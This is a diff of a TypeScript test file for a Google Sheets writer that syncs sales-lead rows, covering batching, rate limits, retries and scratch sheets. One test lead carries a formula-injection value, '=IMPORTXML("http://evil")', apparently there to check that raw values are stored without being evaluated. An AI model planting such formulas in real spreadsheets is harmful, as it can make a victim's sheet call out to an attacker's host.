@@ -6,6 +6,7 @@ import { startFakeGoogleApi, testGoogleAuth } from '../../testkit/fakes/fakeGoog
 import { refuseAlways, refuseFirst, type FakeHttpApi } from '../../testkit/fakes/fakeHttpApi';
 import { fakeSheets } from '../../testkit/fakes/fakeSheets';
 import { lead, manyLeads, MARCH_2025 } from '../../testkit/builders/leads';
+import { sheetWrite } from '../../testkit/builders/runHolds';
 import { testClock } from '../support/testClock';
 
 const RATE_LIMITED_403 = {
@@ -47,9 +48,7 @@ describe('Google Sheets spreadsheet (values.batchUpdate, RAW)', () => {
         lead(),
         lead({ leadId: 'u', isFormatted: false, customerName: '=IMPORTXML("http://evil")' }),
       ]),
-      MARCH_2025,
-      't1',
-      () => {},
+      sheetWrite(MARCH_2025, 't1'),
     );
 
     expect(result).toEqual({ written: 2, removed: 0 });
@@ -61,18 +60,18 @@ describe('Google Sheets spreadsheet (values.batchUpdate, RAW)', () => {
   it('writes nothing when nothing changed, and clears rows that are gone', async () => {
     const sheets = fakeSheets({ Leads: [], Unformatted: [] });
     const sink = await sinkFor(sheets.handler);
-    await sink.write(leadChunksOf([lead(), lead({ leadId: 'gone' })]), MARCH_2025, 't1', () => {});
+    await sink.write(leadChunksOf([lead(), lead({ leadId: 'gone' })]), sheetWrite(MARCH_2025, 't1'));
 
     const writesBefore = google!.requests.filter((request) => request.method === 'POST').length;
     expect(
-      await sink.write(leadChunksOf([lead(), lead({ leadId: 'gone' })]), MARCH_2025, 't2', () => {}),
+      await sink.write(leadChunksOf([lead(), lead({ leadId: 'gone' })]), sheetWrite(MARCH_2025, 't2')),
     ).toEqual({
       written: 0,
       removed: 0,
     });
     expect(google!.requests.filter((request) => request.method === 'POST').length).toBe(writesBefore);
 
-    expect(await sink.write(leadChunksOf([lead()]), MARCH_2025, 't3', () => {})).toEqual({
+    expect(await sink.write(leadChunksOf([lead()]), sheetWrite(MARCH_2025, 't3'))).toEqual({
       written: 0,
       removed: 1,
     });
@@ -84,17 +83,20 @@ describe('Google Sheets spreadsheet (values.batchUpdate, RAW)', () => {
     const sink = await sinkFor(sheets.handler);
     const leads = manyLeads(10_000);
 
-    await sink.write(leadChunksOf(leads), MARCH_2025, 't1', () => {});
+    await sink.write(leadChunksOf(leads), sheetWrite(MARCH_2025, 't1'));
 
     const requests = google!.requests.map((request) => `${request.method} ${request.path}`);
     const updates = requests.filter((request) => request.endsWith('values:batchUpdate'));
-    // the titles, one batchGet, then the rows (~4 MB of values) in requests of at most ~1.5 MB
-    expect(requests.slice(0, 2)).toEqual([
+    // the sheets, one batchGet, the run's scratch sheets, the rows (~4 MB of values) in
+    // requests of at most ~1.5 MB, then the one batch that puts them in place
+    expect(requests).toEqual([
       'GET /v4/spreadsheets/sheet-1',
       'GET /v4/spreadsheets/sheet-1/values:batchGet',
+      'POST /v4/spreadsheets/sheet-1:batchUpdate',
+      ...updates,
+      'POST /v4/spreadsheets/sheet-1:batchUpdate',
     ]);
     expect(updates).toHaveLength(3);
-    expect(requests).toHaveLength(5);
     // Sheets allows 60 write requests per minute per user (external-apis.md b)
     expect(updates.length).toBeLessThan(60);
     for (const update of google!.requests.filter((request) => request.path.endsWith('values:batchUpdate')))
@@ -103,6 +105,11 @@ describe('Google Sheets spreadsheet (values.batchUpdate, RAW)', () => {
     expect(sheets.sheets.Leads?.map((row) => row[0])).toEqual([
       'leadId',
       ...leads.map((item) => item.leadId),
+    ]);
+    // the live sheet grown to its rows (Sheets refuses a write past a sheet's grid), the scratch sheets gone
+    expect(sheets.properties.map((sheet) => [sheet.title, sheet.gridProperties.rowCount])).toEqual([
+      ['Leads', 10_001],
+      ['Unformatted', 1000],
     ]);
   });
 
@@ -118,10 +125,7 @@ describe('Google Sheets spreadsheet (values.batchUpdate, RAW)', () => {
     expect(
       await sink.write(
         leadChunksOf([lead()]),
-        MARCH_2025,
-        't1',
-        () => {},
-        (wait) => waits.push(wait),
+        sheetWrite(MARCH_2025, 't1', { onWait: (wait) => waits.push(wait) }),
       ),
     ).toEqual({
       written: 1,
@@ -148,7 +152,7 @@ describe('Google Sheets spreadsheet (values.batchUpdate, RAW)', () => {
       }),
       clock,
     );
-    await expect(sink.write(leadChunksOf([lead()]), MARCH_2025, 't1', () => {})).rejects.toThrow(
+    await expect(sink.write(leadChunksOf([lead()]), sheetWrite(MARCH_2025, 't1'))).rejects.toThrow(
       'Google Sheets sheet-1: checking the sheets failed: HTTP 403: The caller does not have permission',
     );
     expect(sleeps).toEqual([]);
@@ -165,7 +169,7 @@ describe('Google Sheets spreadsheet (values.batchUpdate, RAW)', () => {
       return busy(request);
     });
 
-    await expect(sink.write(leadChunksOf([lead()]), MARCH_2025, 't1', () => {})).rejects.toThrow(
+    await expect(sink.write(leadChunksOf([lead()]), sheetWrite(MARCH_2025, 't1'))).rejects.toThrow(
       'Google Sheets sheet-1: writing the rows failed: Google Sheets answered HTTP 429 Too Many Requests 5 times in a row; gave up, try again later',
     );
     expect(writesRefused).toBe(5);
